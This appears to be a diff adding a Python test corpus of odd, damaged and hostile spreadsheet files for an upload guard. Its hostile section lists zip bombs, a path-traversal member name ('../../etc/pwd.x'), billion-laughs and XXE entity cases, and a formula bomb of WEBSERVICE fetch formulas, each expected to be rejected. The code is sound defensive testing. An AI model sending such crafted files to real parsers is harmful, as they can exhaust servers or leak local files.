@@ -1,0 +1,161 @@
+"""Corpus, part 3: files. Other formats, other programs, damaged and hostile files. The guard's own table is in test_guard.py."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from collections.abc import Callable
+
+import xlwt
+from odf.opendocument import OpenDocumentSpreadsheet
+from odf.table import CoveredTableCell, Table, TableCell, TableRow
+from odf.text import P
+
+from tests import strange as s
+from tests.buku import workbook
+from tests.korpus import AB, A, B, J, K, tulis
+
+DATA = [J, A, B]
+HTML = b"<html><body><table><tr><td>Nama Koperasi</td><td>Kelurahan</td></tr></table></body></html>"
+CSV = b"Nama Koperasi;Kelurahan;Status\nKSU Melati;Turi;Aktif\n"
+JAUH = '<row r="1048576"><c r="A1048576"><v>9</v></c></row>'
+LEBAR = "".join(f"<c><v>{k}</v></c>" for k in range(1, 16_385))
+SATU_BARIS = s.row("<c><v>1</v></c>")
+
+
+def plain(**lain) -> bytes:
+    return workbook({"S": DATA}, **lain)
+
+
+def with_members(tambah: dict[str, str | bytes], asal: Callable[[], bytes] = plain) -> bytes:
+    """A good register with more members, or others in their place, in its zip."""
+    wadah = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(asal())) as lama, zipfile.ZipFile(wadah, "w", zipfile.ZIP_DEFLATED) as baru:
+        for nama in lama.namelist():
+            if nama not in tambah:
+                baru.writestr(nama, lama.read(nama))
+        for nama, isi in tambah.items():
+            baru.writestr(nama, isi)
+    return wadah.getvalue()
+
+
+def sheet_changed(dari: str, ke: str, bagian: str = "xl/worksheets/sheet1.xml") -> bytes:
+    """A good register with one piece of its XML exchanged."""
+    with zipfile.ZipFile(io.BytesIO(plain())) as arsip:
+        xml = arsip.read(bagian).decode()
+    assert dari in xml, xml[:400]
+    return with_members({bagian: xml.replace(dari, ke, 1)})
+
+
+def xls() -> bytes:
+    buku = xlwt.Workbook()
+    ws = buku.add_sheet("S")
+    ws.write_merge(0, 0, 0, 4, "DATA KOPERASI")
+    for i, baris in enumerate(DATA, 2):
+        for j, nilai in enumerate(baris):
+            ws.write(i, j, nilai)
+    return _saved(buku)
+
+
+def ods() -> bytes:
+    """As LibreOffice writes it: typed cells, a covered cell, rows repeated to the end of the sheet."""
+    buku = OpenDocumentSpreadsheet()
+    tabel = Table(name="S")
+    for baris in DATA:
+        tr = TableRow()
+        for nilai in baris:
+            angka = isinstance(nilai, int)
+            sel = TableCell(valuetype="float", value=str(nilai)) if angka else TableCell(valuetype="string")
+            sel.addElement(P(text=str(nilai)))
+            tr.addElement(sel)
+        tr.addElement(CoveredTableCell(numbercolumnsrepeated=1019))
+        tabel.addElement(tr)
+    ekor = TableRow(numberrowsrepeated=1_048_573)
+    ekor.addElement(TableCell(numbercolumnsrepeated=1024))
+    tabel.addElement(ekor)
+    buku.spreadsheet.addElement(tabel)
+    return _saved(buku)
+
+
+def libreoffice() -> bytes:
+    """What LibreOffice puts into an .xlsx and Excel does not: a style on every column, dimension, blank styled rows."""
+    with zipfile.ZipFile(io.BytesIO(plain())) as arsip:
+        xml = arsip.read("xl/worksheets/sheet1.xml").decode()
+    kosong = "".join(f'<row r="{i}"><c r="A{i}" s="0"/><c r="B{i}" s="0"/></row>' for i in range(4, 400))
+    xml = xml.replace("<sheetData>", '<cols><col min="1" max="1024" width="11.5" style="0"/></cols><sheetData>')
+    xml = xml.replace("</sheetData>", f"{kosong}</sheetData>").replace('ref="A1:E3"', 'ref="A1:AMJ1048576"')
+    return with_members({"xl/worksheets/sheet1.xml": xml})
+
+
+def external() -> bytes:
+    return with_members({"xl/externalLinks/externalLink1.xml": "<externalLink/>"})
+
+
+def password_in_excel() -> bytes:
+    return s.ole("EncryptionInfo", "EncryptedPackage")
+
+
+def formula_bomb() -> bytes:
+    """Ten thousand formulas that fetch something: never calculated here, each listed as uncalculated."""
+
+    def isi(buku, ws):
+        ws.write_formula("C2", '=WEBSERVICE("http://contoh/"&A2)', value="KSU Melati")
+
+    return tulis(isi)
+
+
+def _saved(buku) -> bytes:
+    wadah = io.BytesIO()
+    buku.save(wadah)
+    return wadah.getvalue()
+
+
+BERKAS = [
+    # ── other formats and programs ──
+    K("macros are not run, and said", lambda: with_members({"xl/vbaProject.bin": b"\xd0\xcf"}), "makro_diabaikan@", AB, nama="register.xlsm"),
+    K("a true .xls with a merged title", xls, "format_terbatas@", AB, nama="register.xls"),
+    K("OpenDocument, rows repeated to the end", ods, "format_terbatas@", AB, nama="register.ods"),
+    K("an .xlsx as LibreOffice writes it", libreoffice, "", AB),
+    K("a modern workbook named .xls", plain, "", AB, nama="register.xls"),
+    K("a file without an ending", plain, "", AB, nama="register"),
+    K("a name of a lock file, but a workbook inside", plain, "", AB, nama="~$register.xlsx"),
+    K("links to other workbooks", external, "tautan_luar@", AB),
+    K("a formula that would fetch something is never run", formula_bomb, "", {"nama_koperasi": ["KSU Melati", "Kopwan Mawar"]}),
+    K("dimensioned to the last row", lambda: sheet_changed('ref="A1:E3"', 'ref="A1:XFD1048576"'), "", AB),
+    K("a dimension that is too small", lambda: sheet_changed('ref="A1:E3"', 'ref="A1:A1"'), "", AB),
+    K("a merge over the whole sheet",
+      lambda: sheet_changed("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "", {"kelurahan": ["Turi", "Gedog"]}),
+    K("a million styled empty cells beside the register",
+      lambda: sheet_changed("</sheetData>", "".join(f'<row r="{i}">{"".join(f"""<c r="{h}{i}" s="0"/>""" for h in "ABCDEFGHIJ")}</row>' for i in range(4, 100_004)) + "</sheetData>"), "", AB),
+    # ── no workbooks ──
+    K("HTML named .xls", HTML, "bukan_lembar_kerja@", nama="register.xls"),
+    K("CSV named .xls", CSV, "bukan_lembar_kerja@", nama="register.xls"),
+    K("CSV named .csv", CSV, "bukan_lembar_kerja@", nama="register.csv"),
+    K("a lock file", b"\x05Budi " + bytes(159), "berkas_kunci@", nama="~$register.xlsx"),
+    K("nothing", b"", "berkas_kosong@"),
+    K("zeros only, as after a broken copy", bytes(4096), "bukan_lembar_kerja@"),
+    K("a PDF renamed", b"%PDF-1.7\n", "bukan_lembar_kerja@"),
+    K("with a password, from Excel", password_in_excel, "bersandi@"),
+    K("with a password, old .xls", s.xls_with_password, "bersandi@", nama="register.xls"),
+    K("with a password, OpenDocument", lambda: s.ods(sandi=True), "bersandi@", nama="register.ods"),
+    K("with a password, from a zip program", s.locked_member, "bersandi@"),
+    K("cut off in the middle", lambda: plain()[:3000], "berkas_rusak@"),
+    K("cut off at the end", lambda: plain()[:-30], "berkas_rusak@"),
+    K("a damaged member", s.wrong_crc, "berkas_rusak@"),
+    K("a sheet that breaks off", lambda: sheet_changed("</sheetData>", ""), "berkas_rusak@"),
+    # ── hostile ──
+    K("a zip bomb", s.bomb, "berkas_mencurigakan@"),
+    K("a zip bomb whose headers lie", s.lying_bomb, "berkas_mencurigakan@"),
+    K("zips in zips in a zip", s.nested_bomb, "bukan_lembar_kerja@"),
+    K("members that overlap", s.overlapping, "berkas_mencurigakan@"),
+    K("10,000 members", lambda: s.many_members(10_001), "berkas_mencurigakan@"),
+    K("one member twice", lambda: s.twice("xl/workbook.xml"), "berkas_mencurigakan@"),
+    K("a member that leads elsewhere", lambda: s.twice("../../etc/pwd.x"), "berkas_mencurigakan@"),
+    K("a billion laughs", lambda: s.with_doctype(s.LAUGHS), "berkas_mencurigakan@"),
+    K("an outer entity", lambda: s.with_doctype(s.XXE), "berkas_mencurigakan@"),
+    K("an outer entity in UTF-16", lambda: s.with_doctype(s.XXE, sandi="utf-16"), "berkas_mencurigakan@"),
+    K("a value in the last row", lambda: sheet_changed("</sheetData>", JAUH + "</sheetData>"), "lembar_terlalu_luas@A1048576"),
+    K("16,384 columns with values", lambda: s.xlsx('<row r="1">' + LEBAR + "</row>"), "lembar_terlalu_luas@S1!XFD1"),
+    K("a megabyte of text in a thousand cells", lambda: s.long_texts(1_000), "berkas_terlalu_berat@"),
+    K("a cell at an address that no sheet has", lambda: sheet_changed('r="E3"', 'r="ZZZZ3"'), "berkas_rusak@"),
+]  # fmt: skip
